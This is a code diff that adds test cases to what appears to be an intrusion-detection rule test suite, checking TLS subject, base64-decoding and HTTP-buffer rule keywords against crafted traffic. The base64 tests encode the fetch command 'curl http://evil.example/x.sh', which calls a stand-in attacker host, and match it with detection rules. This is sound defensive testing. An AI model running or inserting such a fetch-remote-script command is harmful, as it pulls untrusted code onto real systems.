@@ -67,3 +67,35 @@ f.flow("bare", f_names.client_hello(b"www.evil.example"))
 f.ask('tls.subject:"CN=evil.example";', 'tls.subject:"cn=evil";', 'tls.subject:"evil";', 'tls.subject:!"evil";', 'tls.subject:"Shop";',
       'tls.issuerdn:"CN=Evil CA";', 'tls.issuerdn:"Root";', 'tls.issuerdn:!"Root";', 'tls.subject:"evil"; tls.issuerdn:"Evil";',
       'tls.subject:"evil"; tls.issuerdn:"Root";', 'tls.subject:"evil"; content:"|16 03|";', 'tls.subject:"CN=";', 'tls.sni; content:"shop"; tls.subject:"Shop";')
+
+import base64  # noqa: E402
+
+f = Family("base64", "alert udp any any -> any any", proto="udp", dport=9)
+TEXT = b"curl http://evil.example/x.sh"
+CODED = base64.b64encode(TEXT)
+for n, text in (("bare", CODED), ("after", b"Basic " + CODED), ("behind", b"Basic " + CODED + b" HTTP/1.1"), ("line", b"Basic " + CODED[:20] + b"\r\n" + CODED[20:]),
+                ("cut", b"Basic " + CODED[:-3]), ("padded", b"Basic " + base64.b64encode(b"curl") + b"rest"), ("double", b"Basic " + base64.b64encode(CODED)),
+                ("url", b"Basic " + base64.urlsafe_b64encode(b"curl\xfb\xff\xfe?>")), ("plus", b"Basic " + base64.b64encode(b"curl\xfb\xff\xfe?>")),
+                ("none", b"Basic "), ("odd", b"Basic !!!!"), ("twice", b"Basic AAAA Basic " + CODED), ("inner", b"Basic Y3=ybA=="), ("short", b"Basic Y3"), ("one", b"Basic Y"),
+                ("nul", b"Basic " + CODED[:8] + b"\0" + CODED[8:])):
+    f.flow(n, text)
+for how in ("", ":relative", ":bytes 8,relative", ":bytes 7, relative", ":bytes 5,relative", ":offset 6", ":bytes 8, offset 6", ":offset 4, relative", ":offset 200,relative", ":bytes 2,relative"):
+    f.ask('content:"Basic "; base64_decode%s; base64_data; content:"curl";' % how, 'content:"Basic "; base64_decode%s; base64_data; content:!"evil";' % how)
+f.ask('base64_decode; base64_data; content:"curl"; startswith;', 'content:"Basic "; base64_decode:relative; base64_data; content:"curl"; content:"evil"; distance:0; content:".sh"; endswith;',
+      'content:"Basic "; base64_decode:relative; base64_data; content:"CURL"; nocase; depth:4;', 'content:"Basic "; base64_decode:relative; base64_data; content:"evil"; offset:4; isdataat:5,relative;',
+      'content:"Basic "; base64_decode:relative; base64_data; pcre:"/^curl\\s+http/";', 'content:"Basic "; base64_decode:relative; base64_data; content:"curl"; pcre:"/^\\shttp/R";',
+      'content:"Basic "; base64_decode:relative; base64_data; isdataat:20;', 'content:"Basic "; base64_decode:relative; base64_data; byte_test:1,=,99,0;',
+      'content:"Basic "; base64_decode:relative; content:"HTTP"; base64_data; content:"curl";', 'content:"Basic "; base64_decode:relative; base64_data; content:"curl"; pkt_data; content:"HTTP";',
+      'content:"asic"; content:"|20|"; distance:0; base64_decode:relative; base64_data; content:"evil";', 'content:"B"; base64_decode:offset 5,relative; base64_data; content:"|fb ff fe|";',
+      'base64_data; content:"a";', 'base64_decode:bytes 0; base64_data; content:"a";', 'base64_decode:bogus; base64_data; content:"a";', 'base64_decode:bytes 70000; base64_data; content:"a";',
+      'base64_decode:offset -1; base64_data; content:"a";', 'content:"Basic "; base64_decode:relative; base64_data; content:"|00|";')
+
+f = Family("base64_http", "alert http any any -> any any", dport=80)
+f.flow("head", http(uri=b"/a?q=" + CODED, headers=b"Authorization: Basic " + CODED + b"\r\n"), ("s", answer(b"key=" + CODED)))
+f.flow("body", http(b"POST", b"/a", body=b"q=" + CODED + b"&r=1"), ("s", answer()))
+f.flow("other", http(uri=b"/a?q=none"), ("s", answer()))
+f.ask('http.uri; content:"q="; base64_decode:relative; base64_data; content:"evil";', 'http.header; content:"Basic|20|"; base64_decode:relative; base64_data; content:"evil";',
+      'http.request_body; content:"q="; base64_decode:relative; base64_data; content:"evil"; http.method; content:"POST";',
+      'http.request_body; content:"q="; base64_decode:bytes 4,relative; base64_data; content:"cur"; startswith; endswith;',
+      'file.data; content:"key="; base64_decode:relative; base64_data; content:"evil";', 'http.request_body; base64_decode:offset 2; base64_data; content:"curl";',
+      'http.uri; content:"q="; base64_decode:relative; base64_data; content:!"evil";', 'http.uri; content:"q="; base64_decode:bytes 8,relative; base64_data; content:"curl h"; bsize:6;')
